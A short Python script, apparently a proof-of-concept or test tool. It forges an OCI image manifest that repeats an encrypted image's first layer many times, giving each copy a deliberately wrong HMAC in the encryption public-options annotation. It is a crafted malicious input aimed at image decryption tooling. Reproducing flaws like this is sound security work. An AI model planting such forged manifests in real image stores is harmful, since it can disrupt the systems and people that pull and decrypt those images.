#!/usr/bin/env python3
"""forge_hmacs.py LAYOUT COPIES KINDS: a newer manifest, which no tag names, that lists the first layer of the first image
COPIES times, with KINDS different wrong HMACs. Whoever can read an image can make one."""
import base64
import hashlib
import json
import pathlib
import sys

PUBLIC_OPTIONS = "org.opencontainers.image.enc.pubopts"

layout, copies, kinds = pathlib.Path(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
blobs = layout / "blobs/sha256"
root = json.loads((layout / "index.json").read_text())["manifests"][0]["digest"].removeprefix("sha256:")
manifest = json.loads((blobs / root).read_text())


def forged(layer, number):
    options = json.loads(base64.b64decode(layer["annotations"][PUBLIC_OPTIONS]))
    options["hmac"] = base64.b64encode(bytes([number] * 32)).decode()
    value = base64.b64encode(json.dumps(options).encode()).decode()
    return {**layer, "annotations": {**layer["annotations"], PUBLIC_OPTIONS: value}}


manifest["layers"] = [forged(manifest["layers"][0], copy % kinds) for copy in range(copies)]
text = json.dumps(manifest).encode()
(blobs / hashlib.sha256(text).hexdigest()).write_bytes(text)
